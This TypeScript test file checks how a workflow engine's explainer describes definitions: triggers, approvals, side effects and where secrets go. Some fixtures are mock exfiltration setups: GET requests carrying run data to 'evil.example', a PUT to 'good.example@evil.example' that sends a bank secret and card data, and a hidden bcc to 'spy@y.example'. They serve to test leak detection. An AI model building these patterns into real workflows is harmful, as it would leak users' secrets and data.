import { describe, expect, test } from "vitest";
import { explain } from "../../../src/engine/definition/explain.ts";
import { validateDefinition } from "../../../src/engine/definition/validation/validate.ts";
import type { PromptLookup } from "../../../src/engine/language/prompt-ref.ts";
import { TEMPLATES } from "../../../src/engine/workflows/templates.ts";
import type { JsonObject } from "../../../src/shared/json.ts";
import { omitUndefined } from "../../../src/shared/omit-undefined.ts";
import { parseTemplate } from "../../../src/shared/template-parser.ts";
import { plainText, type Wording } from "../../../src/shared/wording.ts";
import { realRegistries } from "../../support/registries.ts";

function explained(source: JsonObject, prompts?: PromptLookup) {
  const context = realRegistries();
  const { definition, problems } = validateDefinition(source, {
    ...context,
    ...omitUndefined({ prompts }),
  });
  if (definition === null) throw new Error(JSON.stringify(problems));
  const { steps, ...told } = explain(definition, context.services, prompts);
  const texts = (lines: readonly Wording[]) => lines.map(plainText);
  return {
    triggers: texts(told.triggers),
    access: texts(told.access),
    inputs: texts(told.inputs),
    sideEffects: texts(told.sideEffects),
    reads: texts(told.reads),
    secrets: texts(told.secrets),
    approvers: texts(told.approvers),
    limits: texts(told.limits),
    settings: texts(told.settings),
    steps: steps.map((step) => ({
      ...step,
      text: plainText(step.text),
      goesOn: step.goesOn && plainText(step.goesOn),
    })),
  };
}

describe("explaining a definition", () => {
  test("tells triggers, inputs, steps with routes, side effects with places, approvers and limits", () => {
    const told = explained({ ...TEMPLATES.get("expense-approval"), id: "expense" });
    expect(told.triggers).toContain("A person starts it with the slash command");
    expect(told.inputs[0]).toBe("amount (number, required): Amount (USD); min 0.01; max 1000000");
    expect(told.steps[0]).toMatchObject({ id: "ai-prescreen", depth: 0 });
    expect(told.steps[0]?.goesOn).toContain("on failure → manager-approval-unscreened");
    expect(told.steps.find(({ id }) => id === "two-person-approval")?.text).toMatch(
      /Asks @finance in #approvals: .*2 of them have to agree, and waits 3 d at most/,
    );
    expect(told.sideEffects.join("\n")).toContain("Posts to #approvals (step announce-approval)");
    expect(told.approvers.join("\n")).toContain("@finance (2 of them have to agree)");
    expect(told.limits[0]).toBe("AI may cost $0.10 a run at most.");
  });

  test("tells what people may do with a request besides deciding", () => {
    const told = explained({
      id: "ask",
      name: "Ask",
      inputs: { amount: { type: "number" } },
      steps: [
        {
          id: "ok",
          type: "approval",
          config: {
            title: "Pay?",
            approvers: ["@finance"],
            choices: [
              { id: "yes", label: "Pay" },
              { id: "no", label: "Refuse", comment: "required" },
            ],
            editable: { amount: { type: "number" } },
            remindAfter: "1d",
            escalateTo: ["@board"],
            escalateAfter: "2d",
          },
          next: { yes: "end", no: "end" },
        },
      ],
    });
    expect(told.steps[0]?.text).toContain(
      "Who decides may change amount. A comment is needed for Refuse. Reminds after 1 d. After 2 d, @board may decide, too.",
    );
  });

  test("tells durations that come from data as they are written", () => {
    const told = explained({
      id: "ask",
      name: "Ask",
      steps: [
        { id: "nap", type: "wait", config: { duration: "{{variables.days}}d" }, next: "ok" },
        {
          id: "ok",
          type: "approval",
          config: { title: "Pay?", approvers: ["@finance"], timeout: "{{variables.limit}}" },
          next: { approve: "end", reject: "end", expired: "end" },
        },
      ],
    });
    expect(told.steps[0]?.text).toContain("{{variables.days}}d");
    expect(told.steps[1]?.text).toContain("waits {{variables.limit}} at most");
  });

  test("tells what branches do, and counts a request that only reads as no change outside", () => {
    const request = (id: string, method: string): JsonObject => ({
      id,
      type: "service",
      config: { service: "http", url: "https://example.com/x", method },
    });
    const told = explained({
      id: "both",
      name: "Both",
      triggers: [
        { type: "schedule", cron: "0 9 * * 1-5" },
        { type: "message", channels: ["#ops"], keywords: ["down", "outage"] },
      ],
      steps: [
        {
          id: "fetch",
          type: "parallel",
          config: {
            branches: [
              { id: "read", steps: [request("look", "GET")] },
              { id: "write", steps: [request("tell", "POST")] },
            ],
          },
        },
      ],
    });
    expect(told.triggers).toEqual([
      "The clock starts it (cron 0 9 * * 1-5)",
      "A message in a channel starts it (channels #ops, keywords down or outage)",
    ]);
    expect(told.steps.map(({ id, depth }) => [id, depth])).toEqual([
      ["fetch", 0],
      ["look", 1],
      ["tell", 1],
    ]);
    expect(told.sideEffects).toEqual(["Sends POST to example.com (step tell)"]);
    expect(told.reads).toEqual(["Sends GET to example.com (step look)"]);
  });

  test.for([
    ["its address", { url: "https://evil.example/x?d={{variables.notes}}" }],
    ["its path", { url: "https://evil.example/{{variables.notes}}" }],
    ["its query", { url: "https://evil.example/x", query: { d: "{{variables.notes}}" } }],
    ["a header", { url: "https://evil.example/x", headers: { "X-D": "{{variables.notes}}" } }],
  ] as const)("counts a GET that carries data out in %s as an effect", ([, params]) => {
    const told = explained({
      id: "leak",
      name: "Leak",
      inputs: { notes: { type: "text" } },
      steps: [{ id: "look", type: "service", config: { service: "http", ...params } }],
    });
    expect(told.sideEffects).toEqual([
      "Sends GET to evil.example, with data of the run (step look)",
    ]);
    expect(told.reads).toEqual([]);
  });

  test("shows the texts that a named prompt stands for, both while it is split", () => {
    const version = (number: number, text: string) => ({
      ...{ name: "urgency", version: number, template: parseTemplate(text) },
    });
    const versions = [
      version(3, "Is it urgent?\n{{variables.t}}"),
      version(4, "Urgent: {{variables.t}}"),
    ];
    const step = { id: "ask", type: "ai-decision", config: { promptRef: "urgency" } };
    const inputs = { t: { type: "text" } };
    const told = explained(
      { id: "w", name: "W", inputs, steps: [step] },
      { get: (ref) => (ref === "urgency" ? versions : null), names: () => ["urgency"] },
    );
    expect(told.steps[0]?.details).toEqual([
      { name: "prompt urgency@3", value: "Is it urgent?\n{{variables.t}}" },
      { name: "prompt urgency@4", value: "Urgent: {{variables.t}}" },
    ]);
  });

  test("names every recipient, every value that is sent and where each secret goes, whole", () => {
    const long = `${"x".repeat(5000)} the end`;
    const told = explained({
      id: "send",
      name: "Send",
      inputs: { v: { type: "string" } },
      trigger: { type: "webhook", path: "/webhooks/in", secret: "HOOK_KEY" },
      permissions: { run: ["@finance"] },
      steps: [
        {
          id: "mail",
          type: "service",
          config: {
            ...{ service: "email", to: "a@x.example", cc: ["c@x.example", "d@x.example"] },
            ...{ bcc: "spy@y.example", subject: "S", text: long },
            attachments: [{ filename: "all.csv", content: "{{variables.v}}" }],
          },
          next: "call",
        },
        {
          id: "call",
          type: "service",
          config: {
            ...{ service: "http", method: "PUT", url: "https://good.example@evil.example/p" },
            headers: { Authorization: "Bearer {{secrets.BANK_KEY}}", "X-Copy": "{{variables.v}}" },
            query: { q: "{{variables.v}}" },
            body: { deep: { card: "{{variables.v}}" } },
          },
          next: "ask",
        },
        {
          id: "ask",
          type: "ai-decision",
          config: { prompt: long, model: "m-1", fallbackModel: "m-2", outputFormat: "text" },
          next: "rows",
        },
        {
          id: "rows",
          type: "service",
          config: { service: "database", query: "DELETE FROM t WHERE a = $1", values: [1] },
          next: "child",
        },
        { id: "child", type: "workflow", config: { workflowId: "other", variables: { v: "1" } } },
      ],
    });
    expect(told.sideEffects).toEqual([
      "Sends an e-mail to a@x.example, a copy to c@x.example, d@x.example, a hidden copy to spy@y.example, with 1 attachment (step mail)",
      "Sends PUT to evil.example (as the user good.example), with data of the run (step call)",
      "Sends its prompt to the model m-1 or the model m-2 (step ask)",
      "Runs a statement in the database default (step rows)",
      "Starts the workflow other (step child)",
    ]);
    const given = Object.fromEntries(
      told.steps.flatMap(({ id, details }) =>
        details.map(({ name, value }) => [`${id} ${name}`, value]),
      ),
    );
    expect(given).toMatchObject({
      "mail text": long,
      "mail bcc": "spy@y.example",
      "call headers.X-Copy": "{{variables.v}}",
      "call headers.Authorization": "Bearer {{secrets.BANK_KEY}}",
      "call query.q": "{{variables.v}}",
      "call body.deep": '{"card":"{{variables.v}}"}',
      "ask prompt": long,
      "rows query": "DELETE FROM t WHERE a = $1",
      "rows values": "[1]",
      "child variables.v": "1",
    });
    expect(told.secrets).toEqual([
      "BANK_KEY: Sends PUT to evil.example (as the user good.example) (http.request), step call",
      "HOOK_KEY: proves who sends to /webhooks/in; it is not sent anywhere",
    ]);
    expect(told.access).toEqual(["@finance and admins may start it."]);
  });
});
